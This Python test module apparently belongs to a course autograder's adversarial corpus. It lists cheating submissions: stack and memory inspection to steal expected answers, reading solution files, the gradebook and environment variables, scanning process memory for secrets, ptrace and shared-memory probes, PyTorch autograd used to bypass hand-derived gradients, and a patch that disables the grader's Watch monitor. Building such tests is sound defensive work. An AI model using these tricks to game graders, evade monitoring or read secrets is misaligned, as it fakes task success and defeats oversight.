"""Attacks that look for the answer, or let PyTorch find it."""

from __future__ import annotations

from tests.submissions.corpus import (
    KNOWING,
    TORCH,
    Entry,
    memorised,
    only,
    stealing,
)

ANSWERS = {
    "frames on the stack": """
import sys
def steal(*arguments):
    frame = sys._getframe()
    while frame:
        if "autograder" in frame.f_code.co_filename:
            for name in ("expected", "exercise", "seed", "report", "case", "cases", "given"):
                if name in frame.f_locals:
                    hole(f"{name} stands on the stack")
                    value = getattr(frame.f_locals[name], "expected", frame.f_locals[name])
                    return value
        frame = frame.f_back
    raise NotImplementedError
""",
    "objects in memory": """
import gc
def steal(*arguments):
    for each in gc.get_objects():
        kind = type(each)
        if kind.__module__.startswith("autograder.") and kind.__name__ in ("Exercise", "Case", "Report", "Task"):
            hole(f"a {kind.__name__} is in memory")
    shape = np.shape(arguments[0])
    own = {id(a) for a in arguments}
    arrays = [a for o in gc.get_objects() if isinstance(o, dict) for a in o.values() if isinstance(a, np.ndarray)]
    fitting = [a for a in arrays if a.shape == shape and id(a) not in own]
    if fitting:
        return fitting[0].copy()
    raise NotImplementedError
""",
    "the grader imported": """
import importlib, sys
sys.path += [canary["root"]]
for name in ("checking", "oracles.autodiff", "chapters.delta_template", "diagnosis.diagnose", "judging",
             "builders.gradient_exercise", "course.grading.grade_submission"):
    try:
        importlib.import_module(f"autograder.{name}")
        hole(f"autograder.{name} can be imported")
    except ImportError:
        pass
def steal(O, t, *rest):
    from autograder.chapters import exercises
    hole("the exercises can be imported")
    return exercises()["output_delta"].stand_in(O, t)
""",
    "torch in a NumPy lab": """
def steal(O, t, *rest):
    import torch
    hole("torch can be imported")
    net = torch.logit(torch.tensor(O)).requires_grad_()
    (0.5 * (torch.sigmoid(net) - torch.tensor(t)) ** 2).sum().backward()
    return net.grad.numpy()
""",
    "torch found by its path": """
import importlib.util, os, sys
def steal(*arguments):
    for folder in [p for p in sys.path if p] + [os.path.join(canary["root"], ".venv/lib")]:
        for top, _, files in os.walk(folder):
            if top.endswith("/torch") and "__init__.py" in files:
                hole(f"torch is in sight: {top}")
            if top.endswith("/chapters") and "delta_template.py" in files:
                hole(f"the grader is in sight: {top}")
    raise NotImplementedError
""",
}

CELLS = {
    "solutions read": """
import glob, sys
for folder in [canary["root"], "/", "/work", "..", "../..", *sys.path]:
    for path in glob.glob(f"{folder}/solutions/03*.py") + glob.glob(f"{folder}/autograder/chapters/*.py"):
        hole(path)
        print(open(path).read()[:2000])
""",
    "the gradebook read": """
import glob, os
for path in glob.glob(canary["folder"] + "/**/*", recursive=True):
    hole(path)
for path in ("course/gradebook.db", "course/submitted", "secret.txt", "file.txt"):
    try:
        path = canary["folder"] + "/" + path
        print(os.listdir(path) if os.path.isdir(path) else open(path, "rb").read()[:500])
        hole(path)
    except OSError:
        pass
""",
    "environments read": """
import glob, os
print(dict(os.environ))
for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"):
    try:
        print(path, open(path, "rb").read())
    except OSError:
        pass
""",
    "the environment's first block": """
import ctypes
environ = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
place = 0
while environ and environ[place]:
    print(environ[place])
    place += 1
""",
    "memory searched": """
import os, re
word = b"secret-" + b"[0-9a-f]{32}"
for process in ["self", "1", str(os.getppid()), str(os.getpid())]:
    try:
        maps = open(f"/proc/{process}/maps").read()
        memory = open(f"/proc/{process}/mem", "rb", 0)
    except OSError:
        continue
    for start, end in re.findall(r"^([0-9a-f]+)-([0-9a-f]+) rw", maps, re.M):
        try:
            memory.seek(int(start, 16))
            print(set(re.findall(word, memory.read(min(int(end, 16) - int(start, 16), 50_000_000)))))
        except (OSError, ValueError, OverflowError):
            pass
""",
    "own memory searched": """
import ctypes, gc
found = [o for o in gc.get_objects() if isinstance(o, dict) for o in o.values() if isinstance(o, (str, bytes))]
for text in found:
    if len(text) < 10_000 and ("secret-" if isinstance(text, str) else b"secret-") in text:
        print(text[-200:])
""",
    "processes listed and traced": """
import ctypes, glob, os
libc = ctypes.CDLL(None, use_errno=True)
others = [int(p[6:]) for p in glob.glob("/proc/[0-9]*")]
if len(others) > 3:
    hole(f"{len(others)} processes in sight")
for pid in {*others, os.getppid(), 1, canary["pid"]} - {0, os.getpid()}:
    if libc.ptrace(16, pid, 0, 0) == 0:
        hole(f"{pid} can be traced")
    local = ctypes.create_string_buffer(64)
    class Vector(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
    here, there = Vector(ctypes.addressof(local), 64), Vector(id(local), 64)
    if libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0 and pid != 1:
        hole(f"the memory of {pid} can be read")
""",
    "open descriptors": """
import os, stat
for descriptor in range(3, 1024):
    try:
        info = os.fstat(descriptor)
    except OSError:
        continue
    if stat.S_ISDIR(info.st_mode):
        hole(f"descriptor {descriptor} is a folder: {os.listdir(descriptor)[:20]}")
    elif stat.S_ISREG(info.st_mode):
        content = os.pread(descriptor, 4096, 0)
        print(descriptor, content)
        if b"SQLite" in content or b"cells" in content:
            hole(f"descriptor {descriptor} is a file of the course")
""",
    "shared memory read": """
import ctypes, glob
libc = ctypes.CDLL(None)
libc.shmat.restype = ctypes.c_void_p
address = libc.shmat(canary["segment"], None, 0o10000)
if address not in (None, 2**64 - 1):
    hole("System V shared memory is shared")
    print(ctypes.string_at(address, 64))
for path in glob.glob("/dev/shm/*"):
    hole(path)
    print(open(path, "rb").read(100))
""",
}

TORCH_BACKWARDS = {
    "autograd.grad": "return torch.autograd.grad(forward(x, W, b), (x, W, b), upstream)",
    "Tensor.backward": "forward(x, W, b).backward(upstream)\n            return x.grad, W.grad, b.grad",
    "autograd.backward": """torch.autograd.backward(forward(x, W, b), upstream)
            return x.grad, W.grad, b.grad""",
    "the engine itself": """engine = torch.autograd.Variable._execution_engine
            roots = (torch.autograd.graph.get_gradient_edge(forward(x, W, b)),)
            leaves = tuple(torch.autograd.graph.get_gradient_edge(leaf) for leaf in (x, W, b))
            return engine.run_backward(roots, (upstream,), False, False, leaves, True, True)""",
    "a new engine": """engine = type(torch.autograd.Variable._execution_engine)()
            return engine.run_backward((forward(x, W, b),), (upstream,), False, False, (x, W, b), True, True)""",
    "torch.func.vjp": "return torch.func.vjp(forward, x, W, b)[1](upstream)",
    "torch.func.grad": """weighted = lambda x, W, b: (forward(x, W, b) * upstream).sum()
            return torch.func.grad(weighted, (0, 1, 2))(x.detach(), W.detach(), b.detach())""",
    "jacobian": """jacobians = torch.autograd.functional.jacobian(forward, (x.detach(), W.detach(), b.detach()))
            return tuple(torch.tensordot(upstream, J, 2) for J in jacobians)""",
    "forward mode": """import torch.autograd.forward_ad as forward_ad
            found = []
            for place, leaf in enumerate((x.detach(), W.detach(), b.detach())):
                gradient = torch.zeros_like(leaf)
                for index in np.ndindex(leaf.shape):
                    step = torch.zeros_like(leaf)
                    step[index] = 1
                    with forward_ad.dual_level():
                        inputs = [x.detach(), W.detach(), b.detach()]
                        inputs[place] = forward_ad.make_dual(leaf, step)
                        slope = forward_ad.unpack_dual(forward(*inputs)).tangent
                        gradient[index] = (slope * upstream).sum()
                found.append(gradient)
            return tuple(found)""",
    "torch.func.jvp": """found = []
            inputs = (x.detach(), W.detach(), b.detach())
            for place, leaf in enumerate(inputs):
                gradient = torch.zeros_like(leaf)
                for index in np.ndindex(leaf.shape):
                    steps = [torch.zeros_like(each) for each in inputs]
                    steps[place][index] = 1
                    gradient[index] = (torch.func.jvp(forward, inputs, tuple(steps))[1] * upstream).sum()
                found.append(gradient)
            return tuple(found)""",
    "torch functions switched off": """with torch._C.DisableTorchFunction(), torch._C.DisableTorchFunctionSubclass():
                return torch.autograd.grad(forward(x, W, b), (x, W, b), upstream)""",
    "another thread": """import threading
            found = []
            def work():
                with torch.enable_grad():
                    found.extend(torch.autograd.grad(forward(x, W, b), (x, W, b), upstream))
            thread = threading.Thread(target=work)
            thread.start()
            thread.join()
            return tuple(found)""",
    "node by node": """def walk(node, gradient, leaves):
                if node is None:
                    return
                if hasattr(node, "variable"):
                    leaves[id(node.variable)] = leaves.get(id(node.variable), 0) + gradient
                    return
                gradients = node(gradient)
                gradients = gradients if isinstance(gradients, tuple) else (gradients,)
                for (above, _), each in zip(node.next_functions, gradients):
                    if each is not None:
                        walk(above, each, leaves)
            leaves = {}
            walk(forward(x, W, b).grad_fn, upstream, leaves)
            return tuple(leaves[id(leaf)] for leaf in (x, W, b))""",
    "a script": """return scripted(x, W, b, upstream)""",
    "a module's backward": """layer = torch.nn.Linear(*W.shape, dtype=torch.float64)
            layer.weight.data, layer.bias.data = W.detach().T.clone(), b.detach().clone()
            torch.sigmoid(layer(x)).backward(upstream)
            return x.grad, layer.weight.grad.T, layer.bias.grad""",
    "the formulas of the derivatives": """O = forward(x, W, b)
            delta = torch.ops.aten.sigmoid_backward(upstream, O)
            again = torch.autograd.grad(x @ W + b, (x, W, b), delta)
            return again""",
}

WATCH_PATCHED = """
import sys
from torch.overrides import TorchFunctionMode
TorchFunctionMode.__enter__ = lambda self: self
TorchFunctionMode.__exit__ = lambda self, *a: None
for name, module in list(sys.modules.items()):
    if name.startswith("autograder") and module:
        watch = getattr(module, "Watch", None)
        if watch:
            watch.__init__ = lambda self: None
            watch.used = watch.derived = property(lambda self: False, lambda self, value: None)
            watch.__enter__ = lambda self: self
            watch.__exit__ = lambda self, *a: None
        for constant in ("_DERIVES", "DERIVES"):
            if hasattr(module, constant):
                setattr(module, constant, ())
"""

SCRIPTED = """
scripted = torch.jit.CompilationUnit(
    "def f(x, W, b, upstream):\\n"
    "    y = torch.sigmoid(x @ W + b)\\n"
    "    given = torch.jit.annotate(Optional[List[Optional[Tensor]]], [upstream])\\n"
    "    found = torch.autograd.grad([y], [x, W, b], given)\\n"
    "    return found[0], found[1], found[2]\\n"
).f
"""

TRAIN_WITH_TORCH = """
def train_by_hand(params, batches, masks, lr, p, negative_slope):
    leaves = {name: torch.tensor(value, requires_grad=True) for name, value in params.items()}
    losses = []
    for (x, labels), mask in zip(batches, masks):
        net = torch.tensor(x) @ leaves["W1"] + leaves["b1"]
        h = torch.nn.functional.leaky_relu(net, negative_slope) * torch.tensor(mask) / (1 - p)
        loss = torch.nn.functional.cross_entropy(h @ leaves["W2"] + leaves["b2"], torch.tensor(labels))
        losses.append(float(loss))
        found = torch.autograd.grad(loss, list(leaves.values()))
        leaves = {n: (v - lr * g).detach().requires_grad_() for (n, v), g in zip(leaves.items(), found)}
    return losses
"""


def derived(body: str) -> str:
    """Return the class of lab 07 with a backward that lets PyTorch do the work."""
    return f"""
import numpy as np
def forward(x, W, b):
    return torch.sigmoid(x @ W + b)
{SCRIPTED if "scripted" in body else ""}
class SigmoidLinear(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x, W, b):
        ctx.save_for_backward(x, W, b)
        return torch.sigmoid(x @ W + b)

    @staticmethod
    def backward(ctx, upstream):
        x, W, b = (tensor.detach().clone().requires_grad_() for tensor in ctx.saved_tensors)
        with torch.enable_grad():
            {body}
"""


TRAIN_IN_A_THREAD = (
    TRAIN_WITH_TORCH.replace("def train_by_hand", "def train_with_torch")
    + """
def train_by_hand(*arguments):
    import threading
    found = []
    def work():
        with torch._C.DisableTorchFunction():
            found.append(train_with_torch(*arguments))
    thread = threading.Thread(target=work)
    thread.start()
    thread.join()
    return found[0]
"""
)

BY_HEART = [name for name in only() if name not in ("gradient_check", "train_xor")]

OTHERS = [
    Entry(
        "visible cases by heart",
        KNOWING,
        base="untouched",
        answers={name: memorised(name) for name in BY_HEART},
    ),
    *(
        Entry(f"backward by {name}", KNOWING, base="forward", lab=TORCH, answers={"SigmoidLinear": derived(body)})
        for name, body in TORCH_BACKWARDS.items()
    ),
    *(
        Entry(
            f"backward by {name}, unwatched",
            KNOWING,
            base="forward",
            lab=TORCH,
            first=WATCH_PATCHED,
            answers={"SigmoidLinear": derived(TORCH_BACKWARDS[name])},
        )
        for name in ("autograd.grad", "a new engine")
    ),
    Entry("trained by torch", KNOWING, base="forward", lab=TORCH, answers={"train_by_hand": TRAIN_WITH_TORCH}),
    Entry(
        "trained by torch in a thread", KNOWING, base="forward", lab=TORCH, answers={"train_by_hand": TRAIN_IN_A_THREAD}
    ),
    Entry(
        "trained by torch, unwatched",
        KNOWING,
        base="forward",
        lab=TORCH,
        first=WATCH_PATCHED,
        answers={"train_by_hand": TRAIN_WITH_TORCH},
    ),
]


def entries() -> list[Entry]:
    given = [stealing(id, KNOWING, source) for id, source in ANSWERS.items()]
    return [*given, *(Entry(id, KNOWING, first=source) for id, source in CELLS.items()), *OTHERS]
